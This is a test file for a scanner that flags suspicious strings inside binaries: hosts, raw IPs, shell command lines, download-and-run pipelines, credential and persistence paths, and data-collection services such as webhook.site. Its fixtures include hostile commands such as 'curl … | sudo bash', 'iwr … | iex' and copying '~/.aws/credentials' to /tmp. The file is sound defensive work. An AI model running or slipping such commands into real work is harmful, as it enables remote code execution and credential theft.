import { describe, expect, it } from 'vitest';
import {
  binaryEvidence,
  DOWNLOAD_CHECKS,
  EVIDENCE_LIMITS,
  excerpt,
  MAX_DISTINCT,
  MAX_EXAMPLE_CHARS,
  MAX_EXAMPLES,
  type BinaryStringKind,
} from '../../../src/analysis/binary/evidence.js';
import { declaredHosts } from '../../../src/analysis/hosts.js';
import { withStrings, type EmbeddedString } from '../../../scripts/lib/native-headers.js';

const HEADER = Uint8Array.from([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0x00]);
const context = { declared: declaredHosts({ homepage: 'https://acme-tools.dev' }) };

function found(strings: readonly EmbeddedString[]): Record<string, string[]> {
  const evidence = binaryEvidence(withStrings(HEADER, strings), context);
  return Object.fromEntries([...evidence.found].map(([kind, { values }]) => [kind, values]));
}

const valuesOf = (kind: BinaryStringKind, strings: readonly EmbeddedString[]): string[] => found(strings)[kind] ?? [];

describe('binaryEvidence', () => {
  it('collects the hosts of URLs, leaving out declared, local, placeholder, certificate and malformed ones', () => {
    expect(
      valuesOf('host', [
        'https://telemetry.acme-metrics.net/v1/collect?id=%s',
        'GET http://198.51.7.20:8080/payload HTTP/1.1',
        'https://api.acme-tools.dev/v1',
        'http://localhost:3000',
        'http://127.0.0.1:9000/x',
        'https://example.com/path',
        'http://www.w3.org/2001/XMLSchema',
        'http://ocsp.digicert.com',
        'http://cacerts.digicert.com/DigiCertAssuredIDRootCA.crt',
        'https://%s/api',
        'ws://x',
        'http://.pnp.jsbaseUrlnil',
        'https://telemetry.acme-metrics.net/v2',
        { utf16: 'https://update.acme-cdn.org/latest' },
      ]),
    ).toEqual(['telemetry.acme-metrics.net', '198.51.7.20', 'update.acme-cdn.org']);
  });

  it('collects raw public addresses with a port or standing alone, not versions, OIDs or section numbers', () => {
    expect(
      valuesOf('ip', ['45.77.12.9:8443', '185.199.108.153', 'connect to 203.0.114.5:22 failed', '1.0.0.0', '2.5.4.3', '10.0.19041.1', 'Section 21.4.2.1', '78.2.0.0', '192.168.1.20', '169.254.169.254', '8.8.8.8:53']),
    ).toEqual(['45.77.12.9', '185.199.108.153', '203.0.114.5', '169.254.169.254', '8.8.8.8']);
  });

  it('names shell command lines, and download-and-run apart from them', () => {
    const kinds = found([
      '/bin/sh -c %s',
      'cmd.exe /d /s /c "%s"',
      'powershell.exe -NoProfile -NonInteractive -EncodedCommand %s',
      'pwsh -NoLogo -Command "Get-Process"',
      'rm -rf "$TMPDIR/acme"',
      'schtasks /Create /SC ONLOGON /TN acme /TR "%s"',
      'launchctl load -w ~/Library/LaunchAgents/dev.acme.plist',
      'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v acme',
      'osascript -e \'display notification "done"\'',
      'curl -fsSL https://get.acme.example/install.sh | sudo bash',
      'bash -c "$(wget -qO- https://get.acme.example/i.sh)"',
      'iwr https://get.acme.example/a.ps1 -UseBasicParsing | iex',
      "iex (New-Object Net.WebClient).DownloadString('https://get.acme.example/b.ps1')",
    ]);
    expect(kinds.command).toEqual(['sh -c', 'cmd /c', 'powershell -EncodedCommand', 'powershell -Command', 'rm -rf', 'schtasks /create', 'launchctl load', 'reg add', 'osascript -e']);
    // Judged by the command catalogue (catalog/commands.ts), in its words.
    expect(kinds['download-and-run']).toEqual(['curl … | bash', 'bash -c "$(wget …)"', 'iwr … | iex', 'iex (DownloadString …)']);
  });

  it('does not take a download without a shell, or a shell without a download, for download-and-run', () => {
    expect(valuesOf('download-and-run', ['curl -o out.tar.gz https://x.example/a | tee log', 'wget https://x.example/a', 'cat install.sh | sh', 'curl --version'])).toEqual([]);
    expect(valuesOf('download-and-run', ['curl -s https://api.example.net/v1 | jq .items', 'usage: curl [options] <url> | less'])).toEqual([]);
    expect(valuesOf('command', ['shell -c', 'crash -cache', 'rm -r', 'cmd /x'])).toEqual([]);
  });

  it('names sensitive and persistence locations by the catalog, leaving out weak ones, /etc/passwd and bare file names', () => {
    expect(
      valuesOf('sensitive-path', [
        '%s/.ssh/id_ed25519',
        { utf16: 'Google\\Chrome\\User Data\\Default\\Login Data' },
        'cp ~/.aws/credentials /tmp/x',
        'Software\\Microsoft\\Windows\\CurrentVersion\\Run',
        '/etc/passwd',
        '.netrc',
        'id_rsa',
        './.env',
        '%s/.config/acme/settings.json',
      ]),
    ).toEqual(['SSH keys', 'AWS credentials', 'Windows Run keys', 'browser cookies or saved passwords']); // ASCII strings first, then UTF-16LE
  });

  it('names services that collect data for anyone, in URLs and bare, and not look-alike domains', () => {
    expect(
      valuesOf('exfiltration-host', [
        'https://webhook.site/8f14e45f-ceea-467f-a8f0-5d1c2d3e4f5a',
        'abc123.ngrok-free.app',
        'https://discord.com/api/webhooks/123/abc',
        'https://discord.com/channels/1',
        'notwebhook.site',
        'webhook.site.acme.dev',
      ]),
    ).toEqual(['webhook.site (request catcher)', 'abc123.ngrok-free.app (ngrok tunnel)', 'discord.com/api/webhooks (Discord webhook)']);
    // Reported as a service, not as one more host.
    expect(valuesOf('host', ['https://webhook.site/x'])).toEqual([]);
  });

  it('keeps the first five examples and counts up to MAX_DISTINCT values', () => {
    const hosts = Array.from({ length: MAX_DISTINCT + 10 }, (_, index) => `https://h${index}.acme-metrics.net/`);
    const evidence = binaryEvidence(withStrings(HEADER, hosts), context).found.get('host')!;
    expect(evidence.values).toHaveLength(MAX_DISTINCT);
    expect(evidence.capped).toBe(true);
    expect(evidence.examples).toEqual(hosts.slice(0, MAX_EXAMPLES));
  });

  it('cuts long examples around what matched', () => {
    const text = `${'a'.repeat(300)} https://telemetry.acme-metrics.net/v1 ${'b'.repeat(300)}`;
    const [example] = binaryEvidence(withStrings(HEADER, [text]), context).found.get('host')!.examples;
    expect(example!.length).toBeLessThanOrEqual(MAX_EXAMPLE_CHARS);
    expect(example).toMatch(/^…a+ https:\/\/telemetry\.acme-metrics\.net\/v1 b+…$/);
    expect(excerpt('short', 0, 5)).toBe('short');
    expect(excerpt('x'.repeat(500), 490, 10)).toBe(`…${'x'.repeat(MAX_EXAMPLE_CHARS - 2)}`);
    expect(excerpt('x'.repeat(500), 0, 500)).toBe(`${'x'.repeat(MAX_EXAMPLE_CHARS - 2)}…`);
  });
});

describe('limits', () => {
  const strings = ['plain string', '/bin/sh -c one', 'another plain one', 'rm -rf /tmp/x', 'curl -s https://get.acme.example/i | sh'];

  it('counts strings seen and strings looked at closely, and stops at either limit', () => {
    const bytes = withStrings(HEADER, strings);
    expect(binaryEvidence(bytes, context)).toMatchObject({ strings: 5, detailed: 3, stoppedBy: null });
    const seen = binaryEvidence(bytes, context, { ...EVIDENCE_LIMITS, maxStrings: 3 });
    expect(seen).toMatchObject({ strings: 3, stoppedBy: 'strings' });
    expect(seen.found.get('command')?.values).toEqual(['sh -c']);
    const detailed = binaryEvidence(bytes, context, { ...EVIDENCE_LIMITS, maxDetailed: 2 });
    expect(detailed).toMatchObject({ strings: 4, detailed: 2, stoppedBy: 'detailed' });
    expect(detailed.found.get('download-and-run')).toBeUndefined();
    expect(binaryEvidence(bytes, context, { ...EVIDENCE_LIMITS, maxBytes: 20 })).toMatchObject({ stoppedBy: 'bytes', scan: { scannedBytes: 20 } });
  });

  it('stops counting hosts, and parsing URLs, at MAX_DISTINCT', () => {
    const hosts = Array.from({ length: MAX_DISTINCT + 5 }, (_, index) => `https://h${index}.acme-metrics.net/`);
    const evidence = binaryEvidence(withStrings(HEADER, [...hosts, 'https://late.acme-metrics.net/']), context).found.get('host')!;
    expect(evidence.values).not.toContain('late.acme-metrics.net');
  });
});

describe('download checks', () => {
  const candidates = (count: number, from = 0) => Array.from({ length: count }, (_, index) => `curl -s https://h${from + index}.example/a | less`);

  it('judges a bounded number of candidate commands per file and per search, each text once', () => {
    const evidence = binaryEvidence(withStrings(HEADER, [...candidates(100), ...candidates(100)]), context);
    // The first 64 texts are judged, and answered again from memory when repeated; the other 36 are left, twice.
    expect(evidence.unjudged).toBe(2 * (100 - DOWNLOAD_CHECKS.perFile));
    const shared = { left: 10 };
    expect(binaryEvidence(withStrings(HEADER, candidates(20)), context, EVIDENCE_LIMITS, shared).unjudged).toBe(10);
    expect(shared.left).toBe(0);
    expect(binaryEvidence(withStrings(HEADER, ['curl -s https://x.example/i | sh']), context, EVIDENCE_LIMITS, shared).found.get('download-and-run')).toBeUndefined();
  });

  it('stays fast on many distinct candidates', () => {
    expect(binaryEvidence(withStrings(HEADER, candidates(50_000)), context).unjudged).toBe(50_000 - DOWNLOAD_CHECKS.perFile);
  });
});

describe('hostile input', () => {
  // Each case packs one anchor as densely as possible into two 2 MB strings; a check that backtracks
  // or rescans would take minutes, a linear one well under a second: the test's timeout stops one that does.
  it.each([
    ['downloaders far from a pipe', `curl ${'x'.repeat(240)} `],
    ['downloaders and a pipe at the end', 'wget '],
    ['PowerShell far from a flag', `powershell ${'y'.repeat(110)} `],
    ['PowerShell downloaders', 'iwr '],
    ['DownloadString', '.DownloadString('],
    ['substitutions', '$(curl '],
    ['host labels', 'a.'],
    ['exfiltration domains', '.webhook.site'],
    ['long labels', `${'a'.repeat(62)}.`],
    ['dotted numbers', '1.2.3.4.'],
    ['URLs', 'http://a'],
    ['cmd flags', 'cmd /a /b /d /e /f /g /h '],
    ['paths', '/.ssh/'],
    ['tiny strings worth a look', 'curl x|\0'],
    ['tiny plain strings', 'aaaaaa\0'],
  ])('%s', (_, unit) => {
    const text = unit.repeat(Math.ceil((2 * 1024 * 1024) / unit.length));
    const bytes = withStrings(HEADER, [text, `${text}|`]);
    binaryEvidence(bytes, context);
  });
});
